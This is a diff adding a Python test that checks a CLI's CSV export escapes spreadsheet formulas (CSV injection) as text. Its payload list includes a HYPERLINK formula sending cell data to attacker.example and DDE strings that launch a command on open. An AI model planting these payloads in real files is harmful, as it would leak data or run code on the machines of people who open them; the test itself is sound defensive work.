@@ -227,3 +227,41 @@ def test_dask_analytics_is_a_dask_subcommand(recorded):
                          timeout=120)
     assert out.returncode == 0, out.stderr
     assert [r for r in table(out.stdout) if r["cluster"] == cluster_id], out.stdout
+
+
+FORMULAS = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_keeps_formulas_as_text(tmp_path):
+    """Recorded names that a spreadsheet would run as formulas (CSV injection) are
+    exported with a leading ' (text); numbers, negative ones too, stay numbers."""
+    url = "sqlite:///" + str(tmp_path / "formulas.db")
+    store = open_store(url)
+    c = Cluster()
+    store.ingest([
+        c.cluster(name=FORMULAS[0], user=FORMULAS[1]),
+        c.computation("comp-1", label=FORMULAS[2], code_line=FORMULAS[3]),
+        c.exception("comp-1", FORMULAS[4], exc_type=FORMULAS[5], location="=loc", pattern="@pat",
+                    examples=["=ex"], traceback_text="-tb"),
+        c.event(topic="+topic", msg={"text": "=msg"}),
+    ])
+    store.close()
+    code, _, err = run("--store", url, "export", "--format", "csv", "-o", str(tmp_path / "csv"))
+    assert code == 0, err
+    cells = []
+    for path in (tmp_path / "csv").glob("*.csv"):
+        with path.open(newline="") as f:
+            cells += [(path.name, k, v) for r in csv.DictReader(f) for k, v in r.items()]
+    dangerous = [cell for cell in cells if cell[2].startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not dangerous, dangerous
+    written = {v for _, _, v in cells}
+    for text in [*FORMULAS, "=loc", "@pat", "-tb", "+topic"]:
+        assert "'" + text in written, text
+    # A number is a number (by type, not by how it reads): -3.5 stays -3.5 ...
+    from dask_analytics_lab.csvcells import csv_cell
+
+    assert csv_cell(-3.5) == -3.5 and csv_cell(-2) == -2 and csv_cell(None) is None
+    assert csv_cell("-3.5") == "'-3.5"  # ... a name that reads like one was recorded as text
+    assert csv_cell({"a": "=x"}) == '{"a": "=x"}'
+    assert any(k == "start" and float(v) > 0 for name, k, v in cells if name == "computations.csv")
